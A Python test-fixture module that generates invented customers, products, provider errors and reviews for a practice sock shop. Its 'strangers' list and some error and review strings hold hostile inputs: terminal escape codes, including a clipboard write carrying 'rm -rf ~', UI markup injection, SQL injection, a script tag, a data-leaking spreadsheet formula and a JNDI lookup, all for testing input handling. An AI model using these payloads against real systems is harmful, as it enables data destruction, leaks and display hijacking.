"""Who buys at the practice shop, what it sells, and what its providers say when something goes wrong.

All of it is invented. E-mail addresses and links end in names reserved for examples, telephone numbers stand in
ranges kept free for fiction. The strangers at the end write the way hostile people write.
"""

from __future__ import annotations

import random
import unicodedata
from dataclasses import dataclass
from typing import Final

from server.contract.access import StaffRole
from server.contract.orders import Address, NewCustomer

SHOP_NAME: Final = "Sunday Socks"
SHOP_CURRENCY: Final = "GBP"
SHOP_TIME_ZONE: Final = "UTC"
OWNER_NAME: Final = "Jamie"
OWNER_EMAIL: Final = "jamie@sundaysocks.example"
STAFF: Final[tuple[tuple[StaffRole, str, str], ...]] = (
    ("admin", "Noor", "noor@sundaysocks.example"),
    ("support", "Robin", "robin@sundaysocks.example"),
    ("readonly", "Kit", "kit@books.example"),
)
"""The Owner's people: Noor keeps the catalogue, Robin answers customers, Kit keeps the books."""


@dataclass(frozen=True, slots=True)
class Product:
    """Something to buy: its slug in the catalogue, its price in pence, who prints it, and its variants."""

    slug: str
    name: str
    price: int
    provider: str
    variants: tuple[str, ...]

    def sku(self, variant: str) -> str:
        """What its provider and the shop call one of its variants."""
        return f"{self.slug}-{variant}".upper().replace(" ", "-")


PRODUCTS: Final = (
    Product("heron-socks", "Heron Socks", 1200, "Printful", ("S", "M", "L")),
    Product("fern-socks", "Fern Socks", 1200, "Printful", ("S", "M", "L")),
    Product("night-train-socks", "Night Train Socks", 1400, "Printful", ("S", "M", "L")),
    Product("boiled-wool-socks", "Boiled Wool Socks", 1900, "Printful", ("M", "L")),
    Product("box-of-seven-sundays", "Box of Seven Sundays", 6400, "Printful", ("M", "L")),
    Product(
        "heavy-cotton-tee", "Heavy Cotton Tee", 2400, "Printify", ("S Black", "M Black", "L Black", "M Oat")
    ),
    Product("heron-tee", "Heron Tee", 2600, "Printify", ("S White", "M White", "L Sage")),
    Product("slow-morning-hoodie", "Slow Morning Hoodie", 4900, "Printify", ("M Navy", "L Navy", "XL Sand")),
    Product("second-cup-mug", "Second Cup Mug", 1300, "Printify", ("white", "blue rim")),
    Product("market-tote", "Market Tote", 1600, "Printify", ("natural",)),
    Product("sunday-poster-a2", "Sunday Poster, A2", 2200, "Printify", ("matt", "gloss")),
    Product("corduroy-cap", "Corduroy Cap", 2800, "Printful", ("moss", "rust")),
)


@dataclass(frozen=True, slots=True)
class Country:
    """Where customers live: what they pay in, how goods reach them, and what they are called there."""

    code: str
    weight: int
    currency: str
    carriers: tuple[str, ...]
    given: tuple[str, ...]
    family: tuple[str, ...]
    streets: tuple[str, ...]
    cities: tuple[tuple[str, str], ...]


COUNTRIES: Final = (
    Country(
        "GB",
        58,
        "GBP",
        ("Royal Mail", "DPD", "Evri"),
        (
            "Tom",
            "Priya",
            "Hazel",
            "Owen",
            "Morag",
            "Callum",
            "Nia",
            "Femi",
            "Iris",
            "Rufus",
            "Anjali",
            "Bethan",
        ),
        ("Averley", "Pennock", "Thrale", "Okonedi", "Mistrivar", "Garrowby", "Llwydan", "Tansley", "Quillan"),
        ("Harbour Row", "Old Mill Lane", "Crescent Gardens", "Foundry Street", "Chapel Rise"),
        (("Bristol", "BS1 4ZZ"), ("Leeds", "LS2 9ZZ"), ("Cardiff", "CF10 1ZZ"), ("Glasgow", "G2 8ZZ")),
    ),
    Country(
        "DE",
        9,
        "EUR",
        ("DHL", "Hermes"),
        ("Jürgen", "Anneliese", "Tobias", "Käthe", "Mehmet", "Wiebke"),
        ("Brückenthal", "Sommerlath", "Öztarhan", "Windmöller", "Großkreutz"),
        ("Lindenallee", "Am Mühlbach", "Hafenstraße"),
        (("Hamburg", "20095"), ("Leipzig", "04109"), ("Köln", "50667")),
    ),
    Country(
        "FR",
        7,
        "EUR",
        ("Colissimo", "DPD"),
        ("Élodie", "Bastien", "Maëlle", "Anaïs", "Côme"),
        ("Vauquelle", "D'Orsennes", "Lechêne", "Mbassira"),
        ("rue des Tilleuls", "quai aux Herbes", "passage du Puits"),
        (("Lyon", "69002"), ("Nantes", "44000"), ("Lille", "59000")),
    ),
    Country(
        "US",
        12,
        "USD",
        ("USPS", "UPS"),
        ("Marisol", "Dwayne", "Harper", "Kenji", "Tallulah", "Ezra", "Imani"),
        ("Oakhollow", "Villareña", "Pettigrove", "Nakahara-Bloom", "Stonecipher"),
        ("Juniper Avenue", "Mill Pond Road", "W 3rd Street"),
        (("Portland, OR", "97201"), ("Austin, TX", "78701"), ("Madison, WI", "53703")),
    ),
    Country(
        "SE",
        4,
        "EUR",
        ("PostNord",),
        ("Ola", "Åsa", "Linnéa", "Björn"),
        ("Bergqvara", "Sjöholmsson", "Ängsdal"),
        ("Norra Vägen", "Kyrkogatan"),
        (("Malmö", "211 20"), ("Uppsala", "753 10")),
    ),
    Country(
        "PT",
        3,
        "EUR",
        ("CTT",),
        ("Inês", "Gonçalo", "Beatriz"),
        ("Duartelo", "Figueirôa", "Sequeirais"),
        ("Rua da Alegria", "Travessa do Poço"),
        (("Porto", "4000-123"), ("Lisboa", "1100-048")),
    ),
    Country(
        "PL",
        3,
        "EUR",
        ("InPost",),
        ("Zofia", "Łukasz", "Grażyna"),
        ("Wierzbowska", "Żółkiewicz", "Śniegocki"),
        ("ulica Długa", "ulica Ogrodowa"),
        (("Kraków", "30-001"), ("Gdańsk", "80-001")),
    ),
    Country(
        "JP",
        2,
        "USD",
        ("Japan Post",),
        ("美咲", "健太", "さくら"),
        ("青柳川", "森戸谷", "三ツ橋"),
        ("桜通り 4-2", "港町 1-7"),
        (("大阪", "530-0001"), ("札幌", "060-0001")),
    ),
    Country(
        "AE",
        2,
        "USD",
        ("Aramex",),
        ("ليلى", "سامر", "نورة"),
        ("الحدادي", "المنصوري"),
        ("شارع الواحة", "شارع البحر"),
        (("دبي", "00000"),),
    ),
)

STRANGERS: Final = (
    ("[red]Rob[/red] [b]Tables", "rob.tables@example.net"),
    ("[@click=app.quit]Free socks[/]", "free.socks@example.org"),
    ("\x1b[2J\x1b[1;31mOWNED\x1b[0m", "escape.artist@example.net"),
    ("\x1b]52;c;cm0gLXJmIH4K\x07Clip Board", "clip.board@example.com"),
    ("\x9b31mSee One\x9b0m", "see.one@example.com"),
    ("Anna \u202egro.elpmaxe\u202c Reverse", "anna.reverse@example.org"),
    ("\u2067שרה בן-עמיאל\u2069", "sara.benamiel@example.net"),
    ("Z" + "\u0334\u034e\u0344" * 6 + "algo Combinat", "zalgo.combinat@example.com"),
    ("👩\u200d👩\u200d👧\u200d👦 The Family 🧦", "the.family@example.com"),
    ("🏴\u200d☠\ufe0f Cap'n Sock 🇬🇧👍🏽", "capn.sock@example.org"),
    ("Line\nBreak\tTab\rReturn", "line.break@example.net"),
    ('=HYPERLINK("https://example.com/?"&A1,"Refund")', "formula@example.org"),
    ("'; DROP TABLE shop_order; --", "little.bobbin@example.com"),
    ("<script>alert('socks')</script>", "script@example.net"),
    ("%s %n {0.__class__} ${jndi:x}", "percent@example.com"),
    ("ﷺ﷽ Wide Sign", "wide.sign@example.org"),
    ("สมหญิง ใจกว้างไกล", "somying@example.com"),
    ("Long " + "Longer " * 35 + "Name", "long.name@example.net"),
    ("\u200b\u2060\ufeff", "invisible@example.org"),
    ("⟨erased 0000⟩", "not.erased@example.com"),
)
"""Names that try something on whoever reads them, each with its address."""

FAILURES: Final = (
    ("variant out of stock", 5),
    ("shipping address invalid: postal code does not match country", 3),
    ("rate limit reached, try again later (429)", 4),
    ("print file too small for this product (min. 150 dpi)", 1),
    ("\x1b[31merror\x1b[0m: [bold]upstream timeout[/bold] <html>504</html>", 1),
)
"""What providers answer to an order they do not take, and how often. They are strangers too."""

REVIEWS: Final = (
    "Lovely socks, arrived early. ★★★★★",
    "Warm, and the herons are charming. ★★★★★",
    "Bit small for me, but my daughter took them at once. ★★★★",
    "Second order already; the wool ones survive the machine. ★★★★★",
    "Parcel was wet, socks were not. ★★★",
    "[link=https://example.com]CHEAP SOCKS[/link] \x1b[5mclick\x1b[0m ★",
    "すごく暖かいです。★★★★★",
    "جوارب رائعة ★★★★★",
    "Sent the wrong size. Support answered the same evening, though. ★★★",
)


_PLAIN: Final = str.maketrans({"ł": "l", "ß": "ss", "ø": "o"})


def customer(dice: random.Random, number: int) -> tuple[NewCustomer, Country]:
    """The shop's customer of this number, and where they live."""
    country = dice.choices(COUNTRIES, [country.weight for country in COUNTRIES])[0]
    if number % 24 == 23:
        name, email = STRANGERS[number // 24 % len(STRANGERS)]
    else:
        given, family = dice.choice(country.given), dice.choice(country.family)
        name = f"{family} {given}" if country.code == "JP" else f"{given} {family}"
        host = dice.choice(("example.com", "example.org", "example.net", "post.example"))
        email = f"{_mailbox(given, family)}{number}@{host}"
    city, postal_code = dice.choice(country.cities)
    address = Address(
        name=name[:255],
        line1=f"{dice.randint(1, 180)} {dice.choice(country.streets)}",
        line2=f"Flat {dice.randint(1, 24)}" if dice.random() < 0.2 else None,
        city=city,
        postal_code=postal_code,
        country=country.code,
    )
    return NewCustomer(email=email, name=name[:255], phone=_phone(dice, country), address=address), country


def _mailbox(given: str, family: str) -> str:
    """A mailbox of plain letters for a name of any script."""
    parts = unicodedata.normalize("NFKD", f"{given}.{family}".lower().translate(_PLAIN))
    plain = "".join(letter for letter in parts if letter.isascii() and letter not in " '")
    return plain if len(plain) > 3 else "customer"


def _phone(dice: random.Random, country: Country) -> str | None:
    if country.code == "GB":
        return f"+44 7700 900{dice.randint(0, 999):03d}"
    if country.code == "US":
        return f"+1 202 555 01{dice.randint(0, 99):02d}"
    return None
